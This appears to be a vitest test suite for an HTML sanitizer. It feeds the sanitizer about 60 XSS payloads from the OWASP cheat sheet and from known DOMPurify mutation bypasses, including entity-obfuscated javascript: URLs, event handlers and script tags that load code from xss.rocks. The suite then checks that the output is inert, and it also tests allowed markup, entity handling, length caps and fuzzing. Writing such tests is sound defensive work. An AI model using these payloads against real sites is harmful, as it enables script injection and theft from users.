import { describe, expect, it } from 'vitest';
import { decodeEntities, isSafeUrl, sanitizeHtml, tokenizeHtml } from '../../shared/content/sanitize';

const ALLOWED_TAGS = ['p', 'br', 'strong', 'b', 'em', 'i', 'u', 'span', 'a', 'ul', 'ol', 'li', 'h2', 'h3', 'h4', 'blockquote', 'small', 'sup', 'sub', 'img', 'figure', 'figcaption'];
const ALLOWED_ATTRS: Record<string, string[]> = { a: ['href', 'target', 'rel'], img: ['src', 'alt', 'width', 'height'] };

/** The output holds nothing but allowlisted tags with allowlisted attributes and safe URLs, and text. */
function expectInert(out: string): void {
  expect(out).not.toMatch(/<script/i);
  expect(out).not.toMatch(/<[^>]*[\s/"']on[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:/i);
  expect(out.length).toBeLessThanOrEqual(20_000);
  for (const t of tokenizeHtml(out)) {
    expect(['text', 'start', 'end']).toContain(t.type);
    if (t.type === 'text') expect(t.text).not.toContain('<');
    if (t.type !== 'start' && t.type !== 'end') continue;
    expect(ALLOWED_TAGS).toContain(t.name);
    if (t.type !== 'start') continue;
    for (const [name, value] of t.attrs) {
      expect(['class', 'title', ...(ALLOWED_ATTRS[t.name] ?? [])]).toContain(name);
      if (name === 'href' || name === 'src') expect(isSafeUrl(decodeEntities(value))).toBe(true);
      if (name === 'target') expect(value).toBe('_blank');
    }
  }
  // Re-sanitizing clean output changes nothing: what we emit is exactly what we would accept.
  expect(sanitizeHtml(out)).toBe(out);
}

// OWASP XSS filter-evasion cheat sheet and mutation-XSS classics.
const XSS_PAYLOADS: Array<[string, string]> = [
  ['plain script tag', '<script>alert(1)</script>'],
  ['upper-case script with src', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'],
  ['script split by another script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['extra open angle before script', '<<script>alert(1);//<</script>'],
  ['script with null byte in the tag name', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror with odd case and spacing', '<IMG SRC=x OnErRoR \n=\n "alert(1)">'],
  ['img attributes separated by slashes', '<img/src=x/onerror=alert(1)>'],
  ['img attributes without whitespace between them', '<img src="x"onerror="alert(1)">'],
  ['img with quotes soup (OWASP malformed IMG)', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['img src javascript:', `<IMG SRC="javascript:alert('XSS');">`],
  ['img src mixed-case JaVaScRiPt:', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['img src decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['img src zero-padded decimal entities without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['img src hex entities without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['href with one hex entity', '<a href="jav&#x61;script:alert(1)">x</a>'],
  ['href with a raw tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>'],
  ['href with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['href with an encoded newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['href with leading space and control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['href with a named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['href with a null byte inside the scheme', '<a href="java\0script:alert(1)">x</a>'],
  ['href with named Tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['href data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['href vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['img src data: URL', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with a script inside', '<svg><script>alert(1)</script></svg>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe src javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['embed src javascript:', '<embed src="javascript:alert(1)">'],
  ['style attribute with url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['style attribute with expression()', `<div style="width: expression(alert('XSS'));">x</div>`],
  ['style element', `<style>@import 'http://xss.rocks/xss.css';</style>`],
  ['body onload', `<BODY ONLOAD=alert('XSS')>`],
  ['event handler on an allowed tag', '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>'],
  ['event handler after a slash', '<p/onclick=alert(1)>x</p>'],
  ['formaction and form', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['xlink:href in svg', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['broken tag inside a tag', '<a <b onmouseover=alert(1)>x</a>'],
  ['noscript title mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['xmp title mutation', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['textarea wrapping an img', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['title wrapping an img', '<title><img src=x onerror=alert(1)></title>'],
  ['template wrapping a script', '<template><script>alert(1)</script></template>'],
  ['math mglyph style mutation (DOMPurify 2.0.0 bypass)', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['form math mutation (DOMPurify 2.0.17 bypass)', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['svg p style mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['comment hiding an img', '<!--<img src=x onerror=alert(1)>-->'],
  ['unterminated comment', '<!-- <script>alert(1)</script>'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['unterminated tag', '<img src=x onerror=alert(1)'],
  ['unterminated quoted attribute', '<img src="x onerror=alert(1)>'],
  ['attribute breakout', '"><script>alert(1)</script>'],
  ['title attribute carrying markup', '<a href="https://ok.example" title="&quot;><script>alert(1)</script>">x</a>'],
  ['src that is a scheme abuse of alt', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'],
  ['base href', '<BASE HREF="javascript:alert(1);//">'],
  ['link stylesheet', '<LINK REL="stylesheet" HREF="javascript:alert(1);">'],
  ['processing instruction', '<?xml version="1.0"?><script>alert(1)</script>'],
];

describe('sanitizeHtml against XSS payloads', () => {
  it('covers at least 25 payloads', () => expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(25));
  it.each(XSS_PAYLOADS)('neutralises %s', (_name, payload) => {
    expectInert(sanitizeHtml(payload));
  });
});

describe('sanitizeHtml keeps allowed markup', () => {
  it('keeps paragraphs, strong and links exactly, including &amp; in URLs', () => {
    const html = '<p>Hi <strong>Acme</strong> <a href="https://x.com/a?b=1&amp;c=2">docs</a></p>';
    expect(sanitizeHtml(html)).toBe(html);
  });
  it('keeps every allowlisted tag', () => {
    const html =
      '<h2>A</h2><h3>B</h3><h4>C</h4><ul><li><em>e</em> <i>i</i> <u>u</u> <b>b</b></li></ul><ol><li><small>s</small>x<sup>2</sup>y<sub>3</sub></li></ol>' +
      '<blockquote><span class="q">quote</span></blockquote><figure><img src="/logo.png" alt="Logo"><figcaption>cap</figcaption></figure><p>a<br>b</p>';
    expect(sanitizeHtml(html)).toBe(html);
  });
  it('keeps class and title on any allowed tag', () => {
    expect(sanitizeHtml('<span class="hl big" title="Hello">x</span>')).toBe('<span class="hl big" title="Hello">x</span>');
  });
  it('keeps mailto: and relative URLs', () => {
    for (const href of ['mailto:sales@acme.com', '/pricing', '#demo', './case-study', 'HTTPS://x.com', 'http://x.com'])
      expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
  });
  it('keeps numeric img width and height and drops other values', () => {
    expect(sanitizeHtml('<img src="/a.png" alt="" width="120" height=40>')).toBe('<img src="/a.png" alt="" width="120" height="40">');
    expect(sanitizeHtml('<img width="100%" height="1e3">')).toBe('<img>');
  });
  it('normalises tag and attribute case and quoting', () => {
    expect(sanitizeHtml(`<P CLASS=lead TITLE='a "b"'>x</P>`)).toBe('<p class="lead" title="a &quot;b&quot;">x</p>');
  });
  it('adds rel="noopener noreferrer" to target="_blank" and drops any other target or rel', () => {
    expect(sanitizeHtml('<a href="/x" target="_BLANK" rel="opener">x</a>')).toBe('<a href="/x" target="_blank" rel="noopener noreferrer">x</a>');
    expect(sanitizeHtml('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>');
  });
  it('keeps the first of duplicated attributes, as browsers do', () => {
    expect(sanitizeHtml('<a href="/first" href="javascript:alert(1)">x</a>')).toBe('<a href="/first">x</a>');
    expect(sanitizeHtml('<a href="javascript:alert(1)" href="/second">x</a>')).toBe('<a>x</a>');
  });
  it('does not allow href on img or src on a', () => {
    expect(sanitizeHtml('<img href="/x"><a src="/y">z</a>')).toBe('<img><a>z</a>');
  });
});

describe('sanitizeHtml text and entities', () => {
  it('escapes & < > " \' in text', () => {
    expect(sanitizeHtml(`Tom & Jerry's "3 > 2"`)).toBe('Tom &amp; Jerry&#39;s &quot;3 &gt; 2&quot;');
  });
  it('decodes entities once and re-escapes them, never double-escaping', () => {
    expect(sanitizeHtml('AT&amp;T &lt;b&gt; &#169; &copy; &#x2014;')).toBe('AT&amp;T &lt;b&gt; © © —');
  });
  it('escapes unknown named entities literally', () => {
    expect(sanitizeHtml('I &hearts; it')).toBe('I &amp;hearts; it');
  });
  it('turns invalid code points into U+FFFD', () => {
    expect(sanitizeHtml('&#0;&#xD800;&#x110000;&#99999999999;')).toBe('\ufffd'.repeat(4));
  });
  it('removes null bytes', () => {
    expect(sanitizeHtml('a\0b<p\0>c</p>')).toBe('ab<p>c</p>');
  });
});

describe('sanitizeHtml structure', () => {
  it('drops disallowed tags but keeps their text', () => {
    expect(sanitizeHtml('<div><section>Hello <font color=red>there</font></section></div>')).toBe('Hello there');
  });
  it('drops script, style, iframe, svg, math, template, select, form ... with all their content', () => {
    for (const tag of ['script', 'style', 'iframe', 'object', 'svg', 'math', 'template', 'noscript', 'textarea', 'title', 'xmp', 'noembed', 'noframes', 'select', 'form'])
      expect(sanitizeHtml(`a<${tag}><p>hidden</p></${tag}>b`), tag).toBe('ab');
  });
  it('treats embed as void, so content after it survives', () => {
    expect(sanitizeHtml('a<embed src="/x.swf">b')).toBe('ab');
  });
  it('counts nested dropped elements of the same name', () => {
    expect(sanitizeHtml('<svg><g><svg></svg>hidden</g></svg>shown<svg/>too')).toBe('showntoo');
  });
  it('raw-text elements end only at their own end tag', () => {
    expect(sanitizeHtml('<script>if (a < b) document.write("</p><b>")</script><b>ok</b>')).toBe('<b>ok</b>');
  });
  it('an unterminated dropped element drops the rest', () => {
    expect(sanitizeHtml('a<script>alert(1)')).toBe('a');
  });
  it('closes unclosed tags at the end, innermost first', () => {
    expect(sanitizeHtml('<p><strong>Hi <em>there')).toBe('<p><strong>Hi <em>there</em></strong></p>');
  });
  it('closes inner tags when an outer one closes', () => {
    expect(sanitizeHtml('<b><i>x</b>y</i>')).toBe('<b><i>x</i></b>y');
  });
  it('drops stray closing tags', () => {
    expect(sanitizeHtml('</p>a</strong><b>b</b></b></div>')).toBe('a<b>b</b>');
  });
  it('never gives void tags closing tags', () => {
    expect(sanitizeHtml('<br/><br></br><img src="/a.png"/></img>')).toBe('<br><br><img src="/a.png">');
  });
  it('drops comments, doctype, CDATA and processing instructions', () => {
    expect(sanitizeHtml('<!DOCTYPE html>a<!-- c -->b<!---->c<!-->d<![CDATA[x]]>e<?php echo 1 ?>f')).toBe('abcdef');
  });
  it('keeps a lone < as text', () => {
    expect(sanitizeHtml('1 < 2 and 3 <4 and < p>')).toBe('1 &lt; 2 and 3 &lt;4 and &lt; p&gt;');
  });
  it('handles <a <b> and <scr<script>ipt> as browsers would', () => {
    expect(sanitizeHtml('<a <b>x')).toBe('<a>x</a>');
    expect(sanitizeHtml('<scr<script>ipt>alert(1)</script>')).toBe('ipt&gt;alert(1)');
  });
  it('drops a tag cut off by the end of the input', () => {
    expect(sanitizeHtml('ok <a href="/x')).toBe('ok ');
    expect(sanitizeHtml('ok <b')).toBe('ok ');
  });
});

describe('sanitizeHtml limits and robustness', () => {
  it('caps the output at 20,000 characters without cutting an entity', () => {
    const out = sanitizeHtml('&'.repeat(30_000));
    expect(out.length).toBeLessThanOrEqual(20_000);
    expect(out).toMatch(/^(&amp;)+$/);
  });
  it('keeps room to close open tags when capping', () => {
    const out = sanitizeHtml(`<p><strong>${'a'.repeat(30_000)}`);
    expect(out.length).toBeLessThanOrEqual(20_000);
    expect(out.endsWith('a</strong></p>')).toBe(true);
  });
  it('stops emitting tags once the cap is reached', () => {
    const out = sanitizeHtml('<b>x</b>'.repeat(5_000));
    expect(out.length).toBeLessThanOrEqual(20_000);
    expect(out.endsWith('</b>')).toBe(true);
    expectInert(out);
  });
  it('does not cut a surrogate pair in half', () => {
    const out = sanitizeHtml(`a${'😀'.repeat(15_000)}`);
    expect(out.length).toBeLessThanOrEqual(20_000);
    expect(out).not.toMatch(/[\ud800-\udbff]$/);
  });
  it('never throws on non-string input', () => {
    expect(sanitizeHtml(undefined as unknown as string)).toBe('');
    expect(sanitizeHtml(42 as unknown as string)).toBe('');
  });
  it('handles deeply nested tags quickly', () => {
    const started = Date.now();
    const out = sanitizeHtml('<b><i>'.repeat(10_000) + 'x');
    expect(out.length).toBeLessThanOrEqual(20_000);
    expectInert(out);
    expect(Date.now() - started).toBeLessThan(2_000);
  });
  it('stays inert, idempotent and non-throwing on 2,000 random markup soups', () => {
    const alphabet = ['<', '>', '/', '"', "'", '=', ' ', '\t', '\n', '!', '-', '?', '&', '#', ';', ':', 'x', '\0',
      'a', 'p', 'img', 'script', 'svg', 'style', 'noscript', 'on', 'onerror', 'href', 'src', 'javascript', 'title', '<!--', '-->', '&#x61;'];
    let seed = 42;
    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    for (let n = 0; n < 2_000; n++) {
      let html = '';
      const len = Math.floor(random() * 60);
      for (let k = 0; k < len; k++) html += alphabet[Math.floor(random() * alphabet.length)];
      const out = sanitizeHtml(html);
      // Text may legitimately spell "javascript:" or "onerror=" once escaped; only markup matters here.
      for (const t of tokenizeHtml(out)) {
        if (t.type === 'text') expect(t.text, html).not.toContain('<');
        else if (t.type === 'start' || t.type === 'end') expect(ALLOWED_TAGS, html).toContain(t.name);
        else throw new Error(`unexpected ${t.type} in output of ${JSON.stringify(html)}`);
        if (t.type === 'start')
          for (const [name, value] of t.attrs) {
            expect(name.startsWith('on'), html).toBe(false);
            if (name === 'href' || name === 'src') expect(isSafeUrl(decodeEntities(value)), html).toBe(true);
          }
      }
      expect(sanitizeHtml(out), html).toBe(out);
    }
  });
});

describe('tokenizeHtml', () => {
  it('splits text, tags, comments, doctype and CDATA', () => {
    expect(tokenizeHtml('<!doctype html><p class=a>x<!--c--><![CDATA[d]]></p>')).toEqual([
      { type: 'doctype', text: '<!doctype html>' },
      { type: 'start', name: 'p', attrs: [['class', 'a']], selfClosing: false },
      { type: 'text', text: 'x' },
      { type: 'comment', text: '<!--c-->' },
      { type: 'cdata', text: '<![CDATA[d]]>' },
      { type: 'end', name: 'p' },
    ]);
  });
  it('reads attribute names and values like a browser', () => {
    expect(tokenizeHtml(`<img a=1 b = "2" c='3' d e=/>`)).toEqual([
      { type: 'start', name: 'img', attrs: [['a', '1'], ['b', '2'], ['c', '3'], ['d', ''], ['e', '/']], selfClosing: false },
    ]);
    expect(tokenizeHtml('<br/>')).toEqual([{ type: 'start', name: 'br', attrs: [], selfClosing: true }]);
  });
});
